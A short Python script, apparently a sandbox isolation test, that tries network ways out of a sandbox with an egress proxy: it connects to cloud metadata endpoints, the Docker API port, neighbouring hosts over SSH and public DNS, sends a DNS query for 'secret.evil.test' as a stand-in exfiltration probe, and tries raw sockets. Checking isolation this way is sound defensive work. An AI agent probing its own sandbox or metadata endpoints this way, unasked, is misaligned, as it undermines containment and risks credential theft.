"""Tries the ways out: metadata addresses, DNS, the host, neighbours, the internet, IPv6, raw sockets."""
import socket
import time

targets = [
    ("169.254.169.254", 80),
    ("169.254.170.2", 80),
    ("100.100.100.200", 80),
    ("127.0.0.1", 7070),
    ("10.200.0.1", 22),
    ("10.200.0.2", 22),
    ("10.200.0.6", 7070),
    ("172.17.0.1", 2375),
    ("192.168.1.1", 80),
    ("8.8.8.8", 53),
    ("1.1.1.1", 443),
    ("fd00:ec2::254", 80),
    ("::ffff:169.254.169.254", 80),
]
reached = 0
for address, port in targets:
    started = time.monotonic()
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    client = None
    try:
        client = socket.socket(family, socket.SOCK_STREAM)
        client.settimeout(5)
        client.connect((address, port))
        client.sendall(b"GET / HTTP/1.0\r\nHost: example.test\r\n\r\n")
        answer = client.recv(4096)
        # Casemate's own proxy may take the connection to say no; a place is reached when something answers from there.
        if answer == b"" or (answer.startswith(b"HTTP/1.1 403") and b'"code"' in answer + client.recv(4096)):
            raise OSError("denied by the egress proxy" if answer else "closed without an answer")
        reached += 1
        print("REACHED", address, port)
    except OSError as error:
        print("refused", address, port, error, f"{time.monotonic() - started:.3f} s")
    finally:
        if client is not None:
            client.close()
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01"
for server in ("8.8.8.8", "10.200.0.1"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.settimeout(1)
            datagrams.sendto(query, (server, 53))
            datagrams.recv(512)
            reached += 1
            print("REACHED dns", server)
    except OSError as error:
        print("refused dns", server, error)
try:
    socket.getaddrinfo("example.com", 80)
    reached += 1
    print("REACHED a resolver")
except OSError as error:
    print("refused name", error)
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    print("raw socket opened (it still leads nowhere)")
except (OSError, AttributeError) as error:
    print("refused raw socket", error)
print("reached", reached)
